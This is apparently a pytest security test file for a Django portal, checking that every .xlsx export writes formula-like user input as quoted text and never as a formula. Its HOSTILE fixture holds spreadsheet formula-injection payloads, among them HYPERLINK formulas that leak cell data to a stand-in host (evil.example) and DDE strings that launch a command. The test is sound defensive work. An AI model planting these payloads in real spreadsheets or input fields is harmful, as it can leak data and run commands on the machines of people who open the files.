"""Formula injection into exports (issue 14, item 1): whatever a person typed, or an anonymous
visitor sent as a user name, no cell of any .xlsx the portal writes is a formula. Values that
start with =, +, -, @, a tab or a carriage return are text cells with Excel's quote prefix, and
read back exactly as typed (an export still imports back unchanged)."""

import io
from datetime import date
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import User
from campaigns.models import Award
from criteria.models import CriteriaSet
from danvan.xlsx_writer import XLSX
from tests.conftest import ROOT
from tests.security import access
from tests.security.test_authorization_matrix import CHECKED, World
from units.models import Unit

pytestmark = pytest.mark.django_db

HOSTILE = {
    "unit_name": '=HYPERLINK("http://evil.example/?"&A2,"Xem")',
    "short_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "head_name": "+1+1",
    "person": "=1+1",
    "phone": "-2+3",
    "criterion": "=1+2",
    "award_person": "\t=cmd|' /C calc'!A0",
    "award_reason": "\r=1+1",
    "login": '=HYPERLINK("http://evil.example/"&A2,"x")',
}
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def world(client):
    world = World()
    Unit.objects.filter(pk=world.units["A"].pk).update(
        name=HOSTILE["unit_name"], short_name=HOSTILE["short_name"], head_name=HOSTILE["head_name"]
    )
    User.objects.filter(pk=world.users["staff_a"].pk).update(
        full_name=HOSTILE["person"], phone=HOSTILE["phone"]
    )
    criterion = CriteriaSet.objects.get(year=world.year).criteria.first()
    criterion.title = HOSTILE["criterion"]
    criterion.save()
    Award.objects.create(
        kind="certificate",
        recipient_type="person",
        unit=world.units["A"],
        person_name=HOSTILE["award_person"],
        decision_number="7/QĐ-STP",
        decision_date=date(world.year, 1, 5),
        issuer="Giám đốc Sở",
        year=world.year,
        reason=HOSTILE["award_reason"],
    )
    # Anyone, without an account, can put a user name into the audit log.
    client.post(reverse("login"), {"username": HOSTILE["login"], "password": "x"})
    world.submitted_report("A")
    return world


def _cells(content):
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _check(name, content):
    """Problems in one exported file, and which hostile values it carried."""
    problems, carried = [], set()
    for cell in _cells(content):
        where = f"{name} {cell.parent.title}!{cell.coordinate}"
        if cell.data_type == "f":
            problems.append(f"{where}: formula {cell.value!r}")
        value = cell.value
        if isinstance(value, str):
            carried |= {v for v in HOSTILE.values() if v.strip() and v.strip() in value}
            if value.startswith(STARTS) and not cell.quotePrefix:
                problems.append(f"{where}: formula-like text without quote prefix {value!r}")
    return problems, carried


def _exports(client, world):
    """Every .xlsx the URL configuration answers (found by content type, so a new export is
    covered without a new line here), and the Django admin's export."""
    client.force_login(world.users["admin"])
    found, built = {}, {}
    for name in CHECKED:
        rule = access.RULES[name]
        if "GET" not in rule.methods or name == "logout":
            continue
        if rule.kwargs and rule.kwargs not in built:
            built[rule.kwargs] = rule.kwargs(world, "A")
        kwargs = built.get(rule.kwargs, {})
        response = client.get(reverse(name, kwargs=kwargs))
        if response.get("Content-Type", "").startswith(XLSX):
            found[name] = response.content
    response = client.post(
        reverse("admin:units_unit_export"),
        {"format": "0", "resource": "0", **{f"unitresource_{k}": "on" for k in ["code", "name"]}},
    )
    assert response.status_code == 200
    found["admin:units_unit_export"] = response.content
    return found


def test_every_export_writes_formula_like_values_as_text(client, world):
    exports = _exports(client, world)
    assert {
        "audit:export",
        "accounts:user_export",
        "units:export",
        "criteria:export",
        "campaigns:award_export",
        "review:export",
        "ratings:export_xlsx",
        "dashboards:province_xlsx",
        "dashboards:unit_xlsx",
        "dashboards:period_xlsx",
        "admin:units_unit_export",
    } <= set(exports)
    problems, carried = [], {}
    for name, content in exports.items():
        found, values = _check(name, content)
        problems += found
        carried[name] = values
    assert problems == []
    # The hostile values did go through the exports that show them.
    assert HOSTILE["login"] in carried["audit:export"]
    assert HOSTILE["person"] in carried["accounts:user_export"]
    assert HOSTILE["phone"] in carried["accounts:user_export"]
    assert {HOSTILE["unit_name"], HOSTILE["head_name"]} <= carried["units:export"]
    assert HOSTILE["criterion"] in carried["criteria:export"]
    assert {HOSTILE["award_person"], HOSTILE["award_reason"]} <= carried["campaigns:award_export"]
    for name in ("review:export", "ratings:export_xlsx", "admin:units_unit_export"):
        assert HOSTILE["unit_name"] in carried[name], name
    assert (
        HOSTILE["unit_name"]
        in carried["dashboards:unit_xlsx"] | carried["dashboards:province_xlsx"]
    )


def test_formula_like_values_read_back_exactly_as_typed(client, world):
    client.force_login(world.users["admin"])
    response = client.get(reverse("accounts:user_export"))
    values = {cell.value for cell in _cells(response.content)}
    assert {HOSTILE["person"], HOSTILE["phone"]} <= values


def test_only_the_writer_makes_workbooks():
    """Every .xlsx writer goes through danvan.xlsx_writer (bench/ and tests build inputs)."""
    offenders = []
    for path in ROOT.glob("**/*.py"):
        parts = Path(path).relative_to(ROOT).parts
        if parts[0] in {".venv", "tests", "bench"} or path.name == "xlsx_writer.py":
            continue
        text = path.read_text(encoding="utf-8")
        if "openpyxl import Workbook" in text or 'export("xlsx")' in text:
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
